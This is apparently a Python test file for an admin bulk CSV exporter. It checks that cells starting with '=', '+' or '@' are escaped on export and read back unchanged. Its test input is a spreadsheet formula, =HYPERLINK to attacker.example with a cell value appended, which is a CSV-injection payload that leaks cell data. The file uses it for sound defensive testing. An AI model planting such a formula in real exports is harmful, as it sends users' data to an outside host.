"""What a user writes about itself is no formula in an export, and an import of it changes nothing."""

import io
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

from app.admin.bulk.exporter import export_preferences, export_users
from app.admin.bulk.records import PREFERENCE_COLUMNS, USER_COLUMNS
from app.admin.bulk.source_lines import read_records
from app.cli.bulk import LineProblem, ProblemReport

FORMULA = '=HYPERLINK("https://attacker.example/?"&A1)'


async def iterate_pages(row: dict[str, Any]) -> AsyncIterator[list[dict[str, Any]]]:
    yield [row]


def read_back(path: Path, text: str, columns: tuple[str, ...]) -> dict[str, str]:
    """The cells of the only record."""
    path.write_text(text)
    (record,) = read_records(path, "csv", columns)
    assert isinstance(record.content, dict)
    return record.content


async def test_a_user_comes_back_and_its_cells_are_no_formulas(tmp_path: Path) -> None:
    addresses = '{"email": ["=1@example.org"], "sms": ["+436641234567"]}'
    row = {"id": FORMULA, "addresses": addresses, "locale": "@de", "time_zone": "", "tier": "-1+2", "attributes": "{}", "quiet_hours": ""}
    file = io.StringIO()
    assert await export_users(iterate_pages(row | {"devices": "[]"}), "csv", file, lambda count: None) == 1
    text = file.getvalue()
    assert "'=HYPERLINK" in text
    assert ",'=1@example.org,+436641234567," in text
    cells = read_back(tmp_path / "users.csv", text, USER_COLUMNS)
    assert (cells["id"], cells["email"], cells["sms"], cells["tier"]) == (FORMULA, "=1@example.org", "+436641234567", "-1+2")


async def test_a_preference_comes_back(tmp_path: Path) -> None:
    row = {"user_id": FORMULA, "choice": "opt_out", "category": "+x", "channel": "", "digest": ""}
    file = io.StringIO()
    await export_preferences(iterate_pages(row), "csv", file, lambda count: None)
    assert not any(line.lstrip('"').startswith(("=", "+")) for line in file.getvalue().splitlines())
    assert read_back(tmp_path / "preferences.csv", file.getvalue(), PREFERENCE_COLUMNS)["category"] == "+x"


def test_a_list_of_problems_has_no_formula() -> None:
    file = io.StringIO()
    ProblemReport(Path("users.csv"), file).add(LineProblem(2, "", f"{FORMULA} is in line 1 already"))
    assert file.getvalue().splitlines()[1].startswith("2,,\"'=HYPERLINK")
